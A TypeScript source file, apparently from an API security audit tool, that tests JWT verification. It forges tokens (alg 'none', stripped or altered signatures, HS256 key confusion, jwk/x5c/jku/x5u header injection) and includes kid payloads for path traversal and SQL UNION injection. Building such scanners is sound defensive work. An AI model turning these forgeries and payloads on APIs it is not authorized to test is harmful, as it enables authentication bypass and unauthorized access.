import type { ProbeResponse } from '../client.js';
import type { CheckContext, Target } from './context.js';
import { issuerKeys } from './jwt-keys.js';
import { scanForLeaks } from './jwt-leaks.js';
import { JWT_RULES as R } from './jwt-rules.js';
import {
  alteredSignature,
  attackerKey,
  type DecodedToken,
  decodeToken,
  hs256,
  publicKeySecrets,
  signWith,
  unsigned,
} from './jwt-forge.js';
import { startKeyServer } from './key-server.js';
import { certificatePem, selfSignedCertificate } from './x509.js';

export { JWT_RULES } from './jwt-rules.js';

class RateLimited extends Error {}

const ok = (res: ProbeResponse) => res.status >= 200 && res.status < 300;

/**
 * The JWT area (with `--token`): find a URL that refuses requests without the token and accepts it, then
 * send forged variants of the token there — claims unchanged — and report each one the API accepts.
 * Returns the authenticated responses, which the headers area checks for Cache-Control.
 */
export async function checkJwt(ctx: CheckContext): Promise<ProbeResponse[]> {
  const token = ctx.options.token;
  if (token === undefined) {
    ctx.notChecked(
      'jwt',
      'every JWT check',
      'no --token given (a currently valid token for one of the URLs)',
    );
    return [];
  }
  ctx.phase('jwt');
  const decoded = decodeToken(token);
  if (decoded === undefined) {
    ctx.notChecked(
      'jwt',
      'every JWT check',
      '--token is not a decodable JWS (base64url JSON header and payload)',
    );
    return [];
  }
  const found = await findProtected(ctx, token);
  if (found.target === undefined) {
    ctx.notChecked('jwt', 'every JWT check', found.why);
    return [];
  }
  try {
    await probe(ctx, found.target, decoded);
  } catch (err) {
    if (!(err instanceof RateLimited)) throw err;
    ctx.notChecked(
      'jwt',
      'the remaining JWT probes',
      `the API answered 429 (rate limited) at ${err.message}; rerun later or with --delay-ms`,
    );
  }
  return found.authenticated;
}

async function findProtected(
  ctx: CheckContext,
  token: string,
): Promise<{ target?: Target; authenticated: ProbeResponse[]; why: string }> {
  const reasons: string[] = [];
  for (const t of ctx.targets) {
    if (t.baseline.status !== 401 && t.baseline.status !== 403) {
      reasons.push(`${t.url.href} answered ${t.baseline.status} without a token`);
      continue;
    }
    const res = await ctx.client.send({
      method: 'GET',
      url: t.url,
      headers: { authorization: `Bearer ${token}` },
    });
    if (ok(res)) return { target: t, authenticated: [res], why: '' };
    reasons.push(`${t.url.href} refused the token too (${res.status}): pass a currently valid token`);
  }
  return {
    authenticated: [],
    why: `no URL refused requests without the token and accepted it: ${reasons.join('; ')}`,
  };
}

async function probe(ctx: CheckContext, target: Target, token: DecodedToken): Promise<void> {
  const url = target.url.href;
  const refused: { res: ProbeResponse; token: string }[] = [];
  let forgeryAccepted = false;
  const send = async (forged: string, query?: string): Promise<ProbeResponse> => {
    const probeUrl = new URL(target.url);
    if (query !== undefined) probeUrl.searchParams.set(query, forged);
    const res = await ctx.client.send({
      method: 'GET',
      url: probeUrl,
      ...(query === undefined
        ? { headers: { authorization: `Bearer ${forged}` } }
        : { omitHeaders: ['authorization'] }),
    });
    if (res.status === 429) throw new RateLimited(`${res.request.method} ${url}`);
    if (!ok(res)) refused.push({ res, token: forged });
    return res;
  };
  const accepted = async (
    rule: (typeof R)[keyof typeof R],
    forged: string,
    detail: string,
  ): Promise<boolean> => {
    const res = await send(forged);
    if (!ok(res)) return false;
    forgeryAccepted = true;
    ctx.found(rule, url, detail, [ctx.evidence(res, true)]);
    return true;
  };
  const { alg, kid, typ } = token.header;
  const base: Record<string, unknown> = {
    ...(typ === undefined ? {} : { typ }),
    ...(kid === undefined ? {} : { kid }),
  };

  for (const none of ['none', 'None', 'NONE', 'nOnE']) {
    if (
      await accepted(
        R.algNone,
        unsigned(token, { ...base, alg: none }),
        `{"alg":"${none}"} with no signature was accepted (${url} answered 2xx)`,
      )
    )
      break;
  }
  await accepted(
    R.signatureStripped,
    `${token.parts[0]}.${token.parts[1]}.`,
    `the token with its signature removed was accepted`,
  );
  const altered = alteredSignature(token);
  const unverified =
    altered !== undefined &&
    (await accepted(
      R.signatureNotVerified,
      altered,
      'the token with one signature character changed was accepted',
    ));

  if (unverified) {
    ctx.notChecked(
      'jwt',
      'key confusion, kid, jwk, jku and x5u forgeries',
      'moot: the signature is not verified at all',
    );
  } else {
    await keyConfusion(ctx, token, base, accepted);
    const kidProbes: [string, string][] = [
      ['../../../../../../../../../../dev/null', ''],
      ["bulwark-audit' UNION SELECT 'bulwark-audit-kid-key' -- ", 'bulwark-audit-kid-key'],
    ];
    for (const [k, secret] of kidProbes) {
      const detail = `kid ${JSON.stringify(k)} with HS256 signed with ${secret === '' ? 'an empty key' : JSON.stringify(secret)} was accepted`;
      if (await accepted(R.kidInjection, hs256(token, { ...base, kid: k }, secret), detail)) break;
    }
    const attacker = attackerKey(typeof alg === 'string' ? alg : 'RS256');
    await accepted(
      R.jwkInjection,
      signWith(token, attacker, { ...base, jwk: attacker.publicJwk }),
      `a token signed with the audit's own ${attacker.alg} key, embedded as the jwk header, was accepted`,
    );
    const der = selfSignedCertificate(attacker.privateKey);
    await accepted(
      R.jkuInjection,
      signWith(token, attacker, { ...base, x5c: [der.toString('base64')] }),
      `a token signed with the audit's own key, its certificate embedded as x5c, was accepted`,
    );
    await headerUrls(ctx, token, base, attacker, der, accepted, url);
  }

  for (const param of ['access_token', 'token', 'jwt']) {
    const res = await send(tokenString(token), param);
    if (ok(res)) {
      ctx.found(
        R.tokenInQuery,
        url,
        `the genuine token in ?${param}= (no Authorization header) was accepted`,
        [ctx.evidence(res)],
      );
      break;
    }
  }
  await send('bulwark-audit-malformed');
  await send(`${token.parts[0]}.%%%.${token.parts[2]}`);
  scanForLeaks(ctx, url, refused, [tokenString(token)]);
  ctx.notChecked(
    'jwt',
    'expiry, not-before, audience, issuer, token type, scopes and revocation',
    forgeryAccepted
      ? 'moot: forged tokens were accepted, so an attacker sets any claims'
      : 'a token with changed claims needs the issuer’s private key; test them with tokens from a test issuer (docs/jwt.md)',
  );
}

const tokenString = (t: DecodedToken) => t.parts.join('.');

type Accepted = (rule: (typeof R)[keyof typeof R], forged: string, detail: string) => Promise<boolean>;

async function keyConfusion(
  ctx: CheckContext,
  token: DecodedToken,
  base: Record<string, unknown>,
  accepted: Accepted,
) {
  const alg = String(token.header.alg ?? '');
  if (!/^(RS|PS|ES)\d{3}$/.test(alg)) {
    ctx.notChecked(
      'jwt',
      'HS256 signed with the issuer public key',
      `the token is ${alg || 'not'} signed; the check needs an asymmetric issuer key`,
    );
    return;
  }
  const keys = await issuerKeys(ctx, token);
  if (keys.keys.length === 0) {
    ctx.notChecked('jwt', 'HS256 signed with the issuer public key', keys.why);
    return;
  }
  for (const jwk of keys.keys) {
    for (const secret of publicKeySecrets(jwk)) {
      const form = secret.includes('RSA PUBLIC KEY')
        ? 'PKCS#1 PEM'
        : secret.endsWith('\n')
          ? 'SPKI PEM'
          : 'SPKI PEM without its last newline';
      const detail = `HS256 signed with the issuer key${jwk.kid ? ` ${JSON.stringify(jwk.kid)}` : ''} (${form}, from ${keys.source}) as the HMAC secret was accepted`;
      if (await accepted(R.keyConfusion, hs256(token, base, secret), detail)) return;
    }
  }
}

async function headerUrls(
  ctx: CheckContext,
  token: DecodedToken,
  base: Record<string, unknown>,
  attacker: ReturnType<typeof attackerKey>,
  der: Buffer,
  accepted: Accepted,
  url: string,
) {
  if (ctx.options.keyServer === undefined) {
    ctx.notChecked(
      'jwt',
      'jku and x5u injection',
      'needs --key-server <url> reachable by the API, where the audit serves its own keys',
    );
    return;
  }
  const kid = 'bulwark-audit-attacker';
  const server = await startKeyServer(ctx.options.keyServer, {
    '/jwks.json': [
      'application/json',
      JSON.stringify({ keys: [{ ...attacker.publicJwk, kid, alg: attacker.alg, use: 'sig' }] }),
    ],
    '/cert.pem': ['application/pem-certificate-chain', certificatePem(der)],
  });
  let taken = false;
  try {
    taken = await accepted(
      R.jkuInjection,
      signWith(token, attacker, { ...base, kid, jku: `${server.url}/jwks.json` }),
      `jku ${server.url}/jwks.json (the audit's own JWKS) was fetched and its key accepted`,
    );
    taken =
      (await accepted(
        R.jkuInjection,
        signWith(token, attacker, { ...base, kid, x5u: `${server.url}/cert.pem` }),
        `x5u ${server.url}/cert.pem (the audit's own certificate) was fetched and its key accepted`,
      )) || taken;
  } finally {
    await server.close();
  }
  // A fetch without acceptance is still an SSRF channel; with acceptance the critical finding says it all.
  if (!taken && server.fetched.length > 0) {
    ctx.found(
      R.headerUrlFetched,
      url,
      `the API fetched ${[...new Set(server.fetched)].map((p) => `${server.url}${p}`).join(' and ')} named in token headers`,
      [],
    );
  }
}
